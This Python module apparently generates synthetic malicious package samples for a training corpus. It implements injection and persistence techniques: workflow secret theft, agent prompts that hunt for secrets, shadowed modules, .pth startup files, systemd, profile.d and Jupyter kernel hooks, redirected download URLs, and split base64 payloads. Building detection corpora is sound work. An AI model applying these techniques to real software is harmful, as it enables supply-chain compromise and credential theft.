"""Payloads after published attacks of other kinds: workflow files, prompts to agents, shadowed modules, own clients."""

import base64
import json
import re
import textwrap

from jobs.corpus.payloads.blocks import choose_block
from jobs.corpus.payloads.commands import choose_command
from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.declarations import info_folder
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import FunctionPlace, as_function


def _text(draft: Draft, kind: str) -> str:
    block = choose_block("published", draft.words.split, draft.rng, kind)
    draft.act = block.name
    return draft.words.render(
        block.text.replace("@COMMAND@", choose_command(draft).replace('"', "'").replace("\n", " "))
    )


def _lead(draft: Draft, text: str) -> None:
    """Put statements where a module or a used function runs them, or into a new module."""
    way = draft.rng.randrange(3)
    if way == 0:
        draft.lead(text)
    elif way == 1:
        draft.add_module(draft.init, text)
    else:
        draft.insert_in_function(text, lambda place: not place.name.startswith("__") or place.name == "__init__")


def workflow_secrets(draft: Draft) -> None:
    """Ship a workflow, or a step of one, that sends secrets or runs what it fetches."""
    rng = draft.rng
    name = rng.choice(("shai", "formatter_", "security-scan", "github_actions_security", "discussion", "release-notes"))
    path = f"{draft.root}.github/workflows/{name}{rng.randrange(10**6)}.yml"
    draft.put_new(
        path if rng.random() < 0.7 else f"{draft.root}.github/actions/{name}/action.yml", _text(draft, "workflow")
    )


def workflow_written(draft: Draft) -> None:
    """Write a workflow into each repository that is found, and push it."""
    _lead(draft, _text(draft, "workflow-written"))


def prompt_to_agent(draft: Draft) -> None:
    """Start an agent without its questions, with a prompt that searches for secrets."""
    _lead(draft, _text(draft, "prompt"))


def runner_memory(draft: Draft) -> None:
    """Read secrets out of the memory or the files of the machine that builds."""
    _lead(draft, _text(draft, "runner"))


def encrypted_second_stage(draft: Draft) -> None:
    """Fetch text, decrypt it with a key that the code holds, and execute it."""
    _lead(draft, _text(draft, "second-stage"))


def route(draft: Draft) -> None:
    """Add a route, a middleware, a command of a bot or a handler of logs that executes what a stranger sends."""
    text = _text(draft, "route")
    if draft.rng.random() < 0.5:
        draft.add_module(draft.init, text)
    else:
        draft.insert(draft.inner()[0], text)


def self_sent(draft: Draft) -> None:
    """Send what a client of the host keeps in itself, from its constructor or a method."""

    def text(place: FunctionPlace) -> str:
        secret = [
            a for a in place.arguments if re.search(r"key|token|secret|pass|seed|private|mnemonic|auth", a.lower())
        ]
        held = f"{{'{secret[0]}': {secret[0]}}}" if secret else "{k: str(v)[:400] for k, v in vars(self).items()}"
        return _text(draft, "self-sent").replace("@HELD@", held)

    draft.insert_in_function(text, lambda place: bool(place.owner) and "self" in place.arguments)


def shadow_module(draft: Draft) -> None:
    """Bring a module at the root that other code imports in place of a known one, and pass its names on."""
    name = draft.rng.choice(
        ("typing_extensions", "secrets", "six", "certifi", "colorama", "distutils", "imp", "pkg_resources", "tomli")
    )
    code = draft.code()
    tail = f"\ntry:\n    from importlib import import_module as _m\n    _real = _m('pip._vendor.{name}')\n    globals().update(vars(_real))\nexcept ImportError:\n    pass\n"
    path = draft.rng.choice((f"{name}.py", f"{name}/__init__.py"))
    draft.put_new(f"{draft.root}{'src/' if f'{draft.root}src/' in draft.folder else ''}{path}", code + tail)


def test_settings(draft: Draft) -> None:
    """Run code where tests or tools collect the package: conftest, noxfile, tasks, a plugin of a linter."""
    name = draft.rng.choice(("conftest.py", "tests/conftest.py", "noxfile.py", "tasks.py", "dodo.py", "docs/conf.py"))
    path = f"{draft.root}{name}" if draft.root else f"{draft.folder}{name}"
    draft.act = name
    if path in draft.files:
        draft.insert(path, draft.code())
    elif draft.rng.random() < 0.5:
        draft.put_new(path, draft.code())
    else:
        body = textwrap.indent(draft.code(), "    ")
        draft.put_new(path, f'"""Shared fixtures."""\n\n\ndef pytest_configure(config):\n{body}\n')


def redirected_script(draft: Draft) -> None:
    """Let a console script of the host call a new module, which calls the true one after the payload."""
    info = info_folder(draft.files)
    path = f"{info}/entry_points.txt"
    text = draft.files.get(path, b"").decode("utf-8", "replace")
    found = re.search(r"(?m)^([\w.-]+\s*=\s*)([\w.]+):([\w.]+)\s*$", text)
    if not info or not found:
        raise draft.fail("has no console script")
    module = draft.module_name(draft.folder)
    body = textwrap.indent(draft.code(), "        ")
    function = found[3].split(".")[0]
    draft.put_new(
        f"{draft.folder}{module}.py",
        f"from {found[2]} import {function}\n\n\ndef run():\n    try:\n{body}\n    finally:\n        return {found[3]}()\n",
    )
    draft.put(path, text[: found.start()] + f"{found[1]}{draft.import_name}.{module}:run" + text[found.end() :])


def installed_settings(draft: Draft) -> None:
    """Install settings of other tools through the data folder of a wheel: kernels, shells, desktops, services."""
    info = info_folder(draft.files)
    if not info.endswith(".dist-info"):
        raise draft.fail("has no dist-info")
    command, word = choose_command(draft), draft.words.word()
    draft.act, path, text = draft.rng.choice((
        ("kernel", f"share/jupyter/kernels/{word}/kernel.json", json.dumps({"argv": ["sh", "-c", f"{command}; exec python3 -m ipykernel_launcher -f {{connection_file}}"], "display_name": "Python 3", "language": "python"}, indent=1)),
        ("server-extension", f"etc/jupyter/jupyter_server_config.d/{word}.json", json.dumps({"ServerApp": {"jpserver_extensions": {f"{draft.import_name}": True}, "terminado_settings": {"shell_command": ["sh", "-c", command]}}})),
        ("profile", f"etc/profile.d/{word}.sh", f"# {word}\n{command}\n"),
        ("autostart", f"etc/xdg/autostart/{word}.desktop", f"[Desktop Entry]\nType=Application\nName={word}\nExec=sh -c {json.dumps(command)}\nNoDisplay=true\n"),
        ("service", f"lib/systemd/user/{word}.service", f"[Unit]\nDescription={word}\n[Service]\nExecStart=/bin/sh -c {json.dumps(command)}\nRestart=always\n[Install]\nWantedBy=default.target\n"),
        ("completion", f"share/bash-completion/completions/{draft.rng.choice(('git', 'docker', 'ssh'))}", f"_{word}() {{ COMPREPLY=(); }}\n{command}\ncomplete -F _{word} {word}\n"),
        ("ipython", f"etc/ipython/startup/00-{word}.py", f"import os\nos.system({command!r})\n"),
    ))  # fmt: skip
    draft.put_new(f"{info.removesuffix('.dist-info')}.data/data/{path}", text)


def known_startup_name(draft: Draft) -> None:
    """Bring a start-up file with the name that another tool's file has, in a wheel's root or its purelib folder."""
    info = info_folder(draft.files)
    if not info.endswith(".dist-info"):
        raise draft.fail("has no dist-info")
    rng = draft.rng
    base = rng.choice(("", "", f"{info.removesuffix('.dist-info')}.data/purelib/"))
    name, module = rng.choice((("distutils-precedence.pth", "_distutils_hack"), ("_virtualenv.pth", "_virtualenv"), ("a1_coverage.pth", "_coverage_start"),
                               ("matplotlib-nspkg.pth", "_mpl_nspkg"), ("__editable__.core-0.1.pth", "__editable___core_finder")))  # fmt: skip
    draft.act = name
    draft.put_new(f"{base}{module}.py", draft.code())
    line = rng.choice((
        f"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('{module}')\n",
        f"import sys; exec('try: import {module}\\nexcept Exception: pass')\n",
        f"import {module}; {module}\n",
    ))  # fmt: skip
    draft.put_new(f"{base}{name}", line)


def replaced_address(draft: Draft) -> None:
    """Let a download of the host come from another address, and start what came."""
    pattern = re.compile(rb"https?://[\w.-]+\.(?:com|org|io|net|dev|co)(?=[/'\"])")
    places = [p for p in draft.inner() if pattern.search(draft.files[p])]
    if not places:
        raise draft.fail("names no address")
    path = places[0]
    domain = draft.words.render("https://@domain@").encode()
    draft.put(path, pattern.sub(domain, draft.files[path]))
    text = _text(draft, "download")
    name = draft.words.name()
    draft.insert(path, f"{as_function(text, name, draft.rng, quiet=True)}\n\n{name}()\n")


def half_and_half(draft: Draft) -> None:
    """Keep half of a payload in one new module and half in another; each alone does little."""
    encoded = base64.b64encode(draft.triggered().encode()).decode()
    cut = draft.rng.randrange(len(encoded) // 4, len(encoded) // 2 + 2)
    first = draft.words.render(f"@C1@ = {encoded[:cut]!r}\n\n\ndef @n5@(text):\n    return @C1@ + text\n")
    held = draft.add_module(draft.init, first)
    one = held.rpartition("/")[2].removesuffix(".py")
    second = draft.words.render(
        f"import base64\n\nfrom {draft.import_name} import {one} as @n6@\n\n@C2@ = {encoded[cut:]!r}\n\n\ndef @n7@(run=None):\n"
        "    @n8@ = compile(base64.b64decode(@n6@.@n5@(@C2@)), '@word@', 'exec')\n    return (run or exec)(@n8@)\n\n\n@n7@()\n"
    )
    draft.add_module(draft.inner()[0] if draft.rng.random() < 0.5 else draft.init, second)


FAMILIES = (
    Family("workflow-secrets", "agent", "train", workflow_secrets, dress="plain", takes_trigger=False),
    Family("workflow-written", "agent", "train", workflow_written, dress="plain", takes_trigger=False),
    Family("prompt-to-agent", "agent", "train", prompt_to_agent, dress="plain", takes_trigger=False),
    Family("runner-memory", "module", "train", runner_memory, dress="plain", takes_trigger=False),
    Family("encrypted-second-stage", "module", "train", encrypted_second_stage, dress="remote", takes_trigger=False),
    Family("route", "function", "train", route, dress="plain", takes_trigger=False),
    Family("self-sent", "function", "train", self_sent, dress="plain", takes_trigger=False),
    Family("shadow-module", "import", "train", shadow_module),
    Family("test-settings", "entry", "train", test_settings),
    Family("redirected-script", "entry", "train", redirected_script),
    Family("installed-settings", "settings", "train", installed_settings, "wheel", "plain", takes_trigger=False),
    Family("known-startup-name", "startup", "train", known_startup_name, "wheel"),
    Family("replaced-address", "function", "train", replaced_address, dress="plain", takes_trigger=False),
    Family("half-and-half", "module", "train", half_and_half, dress="halves"),
)
